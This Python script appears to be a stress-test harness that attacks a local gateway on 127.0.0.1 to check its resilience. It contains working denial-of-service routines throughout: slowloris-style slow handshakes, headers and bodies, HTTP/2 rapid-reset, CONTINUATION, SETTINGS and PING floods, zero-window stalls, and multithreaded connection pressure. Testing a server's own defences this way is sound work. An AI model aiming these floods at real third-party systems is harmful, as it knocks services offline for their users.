"""Slow and flooding clients, in a process of their own: attack.py PORT AUTHORITY SECONDS CONNECTIONS."""

import socket
import ssl
import struct
import sys
import threading
import time

import h2
from h2 import frame

FLOOD = 10_000


class Target:
    """Where to connect, in the shape the HTTP/2 helper expects of a gateway."""

    def __init__(self, port, authority):
        self.port, self.authority = port, authority


def tls(target, **options):
    context = ssl.create_default_context(cafile=target.authority)
    plain = socket.create_connection(("127.0.0.1", target.port), timeout=30)
    if options.get("receive_buffer"):
        plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, options["receive_buffer"])
    return context.wrap_socket(plain, server_hostname="localhost")


def drip(connection, data, pause, end):
    for byte in data:
        if time.monotonic() > end:
            return
        connection.sendall(bytes([byte]))
        time.sleep(pause)


def hello(target):
    """The bytes a TLS client opens with."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = ssl.create_default_context(cafile=target.authority).wrap_bio(
        incoming, outgoing, server_hostname="localhost")
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def silent(target, end):
    with socket.create_connection(("127.0.0.1", target.port)) as connection:
        connection.settimeout(max(0.1, end - time.monotonic()))
        connection.recv(1)


def slow_handshake(target, end):
    with socket.create_connection(("127.0.0.1", target.port)) as connection:
        drip(connection, hello(target), 0.2, end)


def slow_head(target, end):
    with tls(target) as connection:
        drip(connection, b"GET /health/live HTTP/1.1\r\nHost: localhost\r\nX: " + b"a" * 10_000, 0.2, end)


def slow_body(target, end):
    with tls(target) as connection:
        connection.sendall(b"PUT /api/v1/messages/0/send HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999\r\n\r\n")
        drip(connection, b" " * 9999, 0.5, end)


def never_reading(target, end):
    with tls(target, receive_buffer=4096) as connection:
        connection.settimeout(1)
        while time.monotonic() < end:
            try:
                connection.sendall(b"GET /errors HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100)
            except TimeoutError:
                time.sleep(max(0, end - time.monotonic()))


def opened(target):
    connection = h2.connect(target)
    connection.sendall(h2.PREFACE + frame(h2.SETTINGS, 0, 0))
    return connection


def flood(target, end, make):
    """Up to 10,000 frames over as many connections as the server makes necessary, fifty a write."""
    for start in range(0, FLOOD, FLOOD // 10):
        if time.monotonic() > end:
            return
        try:
            with opened(target) as connection:
                for number in range(start, start + FLOOD // 10, 50):
                    connection.sendall(b"".join(make(2 * (number - start + i) + 1) for i in range(50)))
        except OSError:
            time.sleep(0.2)


def rapid_reset(target, end):
    head = h2.request_block(target, "/errors", method="GET")
    flood(target, end, lambda stream: frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, head)
          + frame(h2.RST_STREAM, 0, stream, struct.pack(">I", 8)))


def continuation(target, end):
    head = h2.block(("x", "y" * 60))
    flood(target, end, lambda stream: frame(
        h2.HEADERS if stream == 1 else h2.CONTINUATION, 0, 1, head))


def settings(target, end):
    flood(target, end, lambda _: frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))


def ping(target, end):
    flood(target, end, lambda _: frame(h2.PING, 0, 0, b"12345678"))


def empty_data(target, end):
    head = h2.request_block(target, "/api/v1/messages/0/send", "token")
    flood(target, end, lambda stream: (frame(h2.HEADERS, h2.END_HEADERS, 1, head) if stream == 1 else b"")
          + frame(h2.DATA, 0, 1))


def no_window(target, end):
    with opened(target) as connection:
        connection.sendall(frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
        head = h2.request_block(target, "/errors", method="GET")
        connection.sendall(b"".join(
            frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 2 * i + 1, head) for i in range(100)))
        time.sleep(max(0, end - time.monotonic()))


def open_streams(target, end):
    with opened(target) as connection:
        head = h2.request_block(target, "/api/v1/messages/0/send", "token")
        connection.sendall(b"".join(frame(h2.HEADERS, h2.END_HEADERS, 2 * i + 1, head) for i in range(100)))
        while time.monotonic() < end:
            connection.sendall(frame(h2.DATA, 0, 1, b" "))
            time.sleep(0.5)


KINDS = [silent, slow_handshake, slow_head, slow_body, never_reading, rapid_reset, continuation, settings, ping,
         empty_data, no_window, open_streams]


def main():
    target, end = Target(int(sys.argv[1]), sys.argv[2]), time.monotonic() + float(sys.argv[3])

    def press(kind):
        # Who is turned out comes back, a few times.
        for _ in range(5):
            if time.monotonic() > end:
                return
            try:
                kind(target, end)
            except (OSError, ValueError):
                time.sleep(0.5)

    threads = [threading.Thread(target=press, args=(KINDS[i % len(KINDS)],), daemon=True)
               for i in range(int(sys.argv[4]))]
    for thread in threads:
        thread.start()
    first_words = hello(target)
    for _ in range(300):
        # Abandoned handshakes.
        if time.monotonic() > end:
            break
        try:
            with socket.create_connection(("127.0.0.1", target.port), timeout=5) as connection:
                connection.sendall(first_words)
        except OSError:
            pass
        time.sleep(0.01)
    time.sleep(max(0, end - time.monotonic()))


if __name__ == "__main__":
    main()
